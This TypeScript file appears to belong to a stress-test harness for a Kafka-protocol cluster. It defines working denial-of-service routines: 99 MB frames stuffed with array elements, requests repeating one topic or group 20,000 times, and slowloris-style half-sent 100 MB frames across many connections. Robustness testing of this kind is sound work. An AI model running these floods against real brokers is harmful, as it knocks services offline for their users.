/** Requests that are large, or that cost far more than their bytes. */
import { describeConfigs } from '../../../electron/cluster/protocol/apis/describe-configs.ts';
import { describeGroups } from '../../../electron/cluster/protocol/apis/describe-groups.ts';
import { metadata } from '../../../electron/cluster/protocol/apis/metadata.ts';
import { listOffsets } from '../../../electron/cluster/protocol/apis/list-offsets.ts';
import type { Attack, AttackContext } from '../attack.ts';
import { requestBytes, sendAll, zeroFrame } from '../wire.ts';

const FRAME_BYTES = 99_000_000;

export const elements: Attack = {
  name: 'elements',
  summary: 'requests of 99 MB with millions of array elements; 20,000 times the same topic and group',
  async run(context) {
    const { target } = context;
    const [first = 0, second = 0, third = 0] = target.brokerPorts;
    await Promise.all([
      sendLarge(context, first, describeConfigsFrame()),
      sendLarge(context, second, describeGroupsFrame()),
      sendRepeated(context, third),
    ]);
    return '2 requests of 99 MB, 4 with repeated names';
  },
};

async function sendLarge({ sockets, forMs }: AttackContext, port: number, frame: Iterable<Uint8Array>): Promise<void> {
  const socket = await sockets.connect(port);
  if (socket !== undefined) await sendAll(socket, frame, forMs);
}

async function sendRepeated({ sockets, forMs, bulk, compacted }: AttackContext, port: number): Promise<void> {
  const many = <T>(element: T): T[] => new Array<T>(20_000).fill(element);
  const requests = [
    requestBytes(describeConfigs, 3, {
      resources: many({ resourceType: 2, resourceName: bulk.topic, configurationKeys: null }),
      includeSynonyms: true,
      includeDocumentation: true,
    }),
    requestBytes(describeGroups, 4, { groups: many('attack') }),
    requestBytes(metadata, 8, { topics: many({ name: bulk.topic }), allowAutoTopicCreation: false }),
    requestBytes(listOffsets, 5, {
      replicaId: -1,
      isolationLevel: 0,
      topics: [{ name: compacted.topic, partitions: many({ partitionIndex: 0, timestamp: 1n }) }],
    }),
  ];
  const socket = await sockets.connect(port);
  socket?.resume();
  if (socket !== undefined) await sendAll(socket, requests, forMs);
}

function* describeConfigsFrame(): Generator<Uint8Array> {
  // Topic "a", all settings.
  const element = Buffer.from([2, 0, 1, 0x61, 0xff, 0xff, 0xff, 0xff]);
  yield* repeated(describeConfigs.key, 1, element, 1);
}

function* describeGroupsFrame(): Generator<Uint8Array> {
  yield* repeated(describeGroups.key, 0, Buffer.from([0, 1, 0x61]), 0);
}

/** A frame whose only array has as many elements as fit. */
function* repeated(key: number, version: number, element: Buffer, tailBytes: number): Generator<Uint8Array> {
  const count = Math.floor((FRAME_BYTES - 14 - tailBytes) / element.length);
  const head = Buffer.alloc(18);
  head.writeInt32BE(14 + count * element.length + tailBytes, 0);
  head.writeInt16BE(key, 4);
  head.writeInt16BE(version, 6);
  head.writeInt32BE(1, 8);
  head.writeInt16BE(-1, 12);
  head.writeInt32BE(count, 14);
  yield head;
  const block = Buffer.concat(new Array<Buffer>(Math.min(count, 32_768)).fill(element));
  for (let left = count * element.length; left > 0; left -= block.length) yield left >= block.length ? block : block.subarray(0, left);
  if (tailBytes > 0) yield Buffer.alloc(tailBytes);
}

const HALF_FRAMES = 20;
const CLAIMED_BYTES = 100_000_000;
const SENT_BYTES = 90_000_000;

export const halfFrames: Attack = {
  name: 'half-frames',
  summary: '20 connections to each broker and quorum port send 90 of 100 MB of a frame, and stop',
  async run(context) {
    const { target, sockets, quorumPorts, forMs } = context;
    const ports = [...target.brokerPorts, ...quorumPorts];
    // Key 0, version 7: as far as a server can see, a produce request.
    const head = Buffer.from([0, 0, 0, 7, 0, 0, 0, 1, 0xff, 0xff]);
    await Promise.all(
      ports.flatMap((port) =>
        new Array<undefined>(HALF_FRAMES).fill(undefined).map(async () => {
          const socket = await sockets.connect(port);
          if (socket !== undefined) await sendAll(socket, zeroFrame(CLAIMED_BYTES, head, SENT_BYTES), forMs);
        }),
      ),
    );
    while (!context.over()) await new Promise((resolve) => setTimeout(resolve, 50));
    return `${ports.length * HALF_FRAMES} connections`;
  },
};
